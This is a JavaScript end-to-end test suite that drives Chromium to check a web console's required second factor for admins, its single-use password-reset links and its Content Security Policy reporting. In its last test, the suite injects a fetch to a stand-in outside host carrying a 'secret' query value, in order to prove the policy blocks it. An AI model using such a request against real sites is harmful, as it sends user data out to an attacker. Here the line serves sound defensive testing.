// A required second factor, a link for a new password and reports about the policy, in a real Chromium.
import test, { after, before } from 'node:test'
import assert from 'node:assert/strict'
import { createHash, randomBytes, X509Certificate } from 'node:crypto'
import { eventually, remove, workDir } from '../e2e/lib/programs.mjs'
import { TlsBridge } from './lib/service.mjs'
import { launch, seen, Visitor } from './lib/browser.mjs'
import { digits } from './lib/totp.mjs'

const nobody = { chatUrl: 'ws://127.0.0.1:9/ws/chat', noiseRootKey: '00'.repeat(32), plain: true }
const first = randomBytes(12).toString('hex'), next = randomBytes(12).toString('hex')
const admin = { email: 'admin@example.org', password: randomBytes(12).toString('hex') }
let dir, bridge, browser, adminPage, agentLink, adminSecret, adminCodes

const heading = (visitor, text) => visitor.page.getByRole('heading', { level: 1, name: text }).waitFor()
const shown = (visitor, label) => visitor.page.getByLabel(label, { exact: true }).inputValue()
const menu = visitor => visitor.page.locator('.menu a').allTextContents()
const fill = (visitor, label, text) => visitor.page.getByLabel(label, { exact: true }).fill(text)
const press = (visitor, name) => visitor.page.getByRole('button', { name, exact: true }).click()

async function invite(email, role, password) {
  const made = await bridge.must('POST', `/v1/organizations/${bridge.org}/invitations`, { email, role }, bridge.operatorToken)
  await bridge.must('POST', '/v1/invitations/accept', { token: made.token, password }, null)
}
async function signIn(visitor, email, password) {
  await visitor.goto()
  await heading(visitor, 'Sign in')
  await fill(visitor, 'E-mail', email)
  await fill(visitor, 'Password', password)
  await press(visitor, 'Sign in')
}

before(async () => {
  dir = workDir('people')
  bridge = await new TlsBridge(dir, nobody, { auth: { require_second_factor: 'admins' }, limits: { login_per_minute: 1000, token_per_minute: 100000, organization_per_minute: 100000, address_per_minute: 100000 } }).start()
  await bridge.bootstrap()
  await invite(admin.email, 'admin', admin.password)
  await invite('agent@example.org', 'agent', first)
  // Reports go only where the certificate is believed.
  const key = new X509Certificate(bridge.ca).publicKey.export({ type: 'spki', format: 'der' })
  browser = await launch(`--ignore-certificate-errors-spki-list=${createHash('sha256').update(key).digest('base64')}`, '--short-reporting-delay')
}, { timeout: 60000 })
after(async () => {
  await browser?.close()
  await bridge?.stop()
  if (dir) remove(dir)
}, { timeout: 60000 })

test('who must have a second factor sets it up before anything else', { timeout: 60000 }, async () => {
  adminPage = await Visitor.open(browser, bridge.base)
  await signIn(adminPage, admin.email, admin.password)
  await heading(adminPage, 'Account')
  assert.deepEqual(await menu(adminPage), ['Account'])
  await adminPage.page.getByText('A second factor is required here.').waitFor()
  await adminPage.judge('second factor required')
  // An address typed by hand leads back.
  await adminPage.page.evaluate(() => { location.hash = '#/sessions' })
  await eventually('back at the account', () => adminPage.page.evaluate(() => location.hash === '#/account'))
  await press(adminPage, 'Set up')
  adminSecret = await shown(adminPage, 'Secret')
  await fill(adminPage, 'Authentication code', digits(adminSecret))
  await press(adminPage, 'Confirm')
  await adminPage.page.getByText('Keep these recovery codes.').waitFor()
  adminCodes = await adminPage.page.locator('.codes code').allTextContents()
  await press(adminPage, 'Continue')
  await eventually('the whole menu', async () => (await menu(adminPage)).length > 5)
})

test('an admin makes a link for a new password, and it is asked for a fresh sign-in first', { timeout: 60000 }, async () => {
  const { page } = adminPage
  await page.locator('.menu a', { hasText: 'Users' }).click()
  // As the service answers after five minutes.
  await page.route('**/password-reset', route => route.fulfill({
    status: 403, contentType: 'application/problem+json', body: JSON.stringify({ code: 'forbidden', title: 'This token may not do that' })
  }), { times: 1 })
  await page.locator('.row', { hasText: 'agent@example.org' }).getByRole('button', { name: 'Reset password' }).click()
  const asked = page.getByRole('dialog')
  await asked.getByLabel('Present password', { exact: true }).fill(admin.password)
  await asked.getByLabel('Authentication code', { exact: true }).fill(adminCodes[0])
  await asked.getByRole('button', { name: 'Continue' }).click()
  agentLink = await shown(adminPage, 'Link for a new password')
  assert.match(agentLink, /\/#\/password-reset\/wab_reset_\w{36}$/)
  await adminPage.judge('link for a new password')
  await press(adminPage, 'Close')
  // None for oneself.
  assert.equal(await page.locator('.row', { hasText: admin.email }).getByRole('button', { name: 'Reset password' }).count(), 0)
})

test('whoever opens the link sets a password, once', { timeout: 60000 }, async () => {
  const old = await Visitor.open(browser, bridge.base)
  await signIn(old, 'agent@example.org', first)
  await heading(old, 'Overview')
  const agent = await Visitor.open(browser, bridge.base)
  await agent.page.goto(agentLink)
  await heading(agent, 'A new password')
  await agent.judge('a new password')
  await fill(agent, 'New password', 'qwertyqwerty')
  await press(agent, 'Set password')
  await agent.page.getByRole('alert').filter({ hasText: 'too easy to guess' }).waitFor()
  await fill(agent, 'New password', next)
  await press(agent, 'Set password')
  await heading(agent, 'Sign in')
  assert.equal(await agent.page.evaluate(() => location.hash), '')
  // The other browser is out.
  await old.page.locator('.menu a', { hasText: 'Sessions' }).click()
  await heading(old, 'Sign in')
  await signIn(agent, 'agent@example.org', next)
  await heading(agent, 'Overview')
  const late = await Visitor.open(browser, bridge.base)
  await late.page.goto(agentLink)
  await fill(late, 'New password', next + '!')
  await press(late, 'Set password')
  await late.page.getByRole('alert').filter({ hasText: 'replaced by a newer one' }).waitFor()
})

test('the link asks for the code of whoever has one', { timeout: 60000 }, async () => {
  const users = await bridge.must('GET', `/v1/organizations/${bridge.org}/users`, undefined, bridge.operatorToken)
  const id = users.data.find(one => one.email === admin.email).id
  const { link } = await bridge.must('POST', `/v1/users/${id}/password-reset`, undefined, bridge.operatorToken)
  const visitor = await Visitor.open(browser, bridge.base)
  await visitor.page.goto(link)
  await heading(visitor, 'A new password')
  await fill(visitor, 'New password', next)
  assert.equal(await visitor.page.getByLabel('Authentication code', { exact: true }).isVisible(), false)
  await press(visitor, 'Set password')
  await visitor.page.getByLabel('Authentication code', { exact: true }).waitFor()
  await visitor.judge('a new password with a code')
  await fill(visitor, 'Authentication code', adminCodes[1])
  await press(visitor, 'Set password')
  await heading(visitor, 'Sign in')
})

test('nothing of this broke the policy, asked another host or failed the judge', () => {
  assert.deepEqual([...seen.hosts], [new URL(bridge.base).host])
  assert.deepEqual(seen.refused, [])
  assert.deepEqual(seen.errors, [])
  assert.ok(seen.judged.length >= 4)
  for (const one of seen.judged) assert.deepEqual(one.violations, [], one.name)
})

test('what the policy refuses is reported to this service, in its own words', { timeout: 60000 }, async () => {
  const visitor = await Visitor.open(browser, bridge.base)
  await visitor.goto()
  await heading(visitor, 'Sign in')
  await visitor.page.evaluate(() => { document.body.setAttribute('style', 'color: red') })
  await visitor.page.evaluate(() => fetch('https://elsewhere.example/?secret=stranger').catch(() => {}))
  await bridge.program.line(/"event":"console.policy_refused".*"directive":"style-src-attr","blocked":"inline"/)
  await bridge.program.line(/"event":"console.policy_refused".*"directive":"connect-src","blocked":"address"/)
  assert.ok(!bridge.program.lines.some(line => line.includes('stranger')))
})
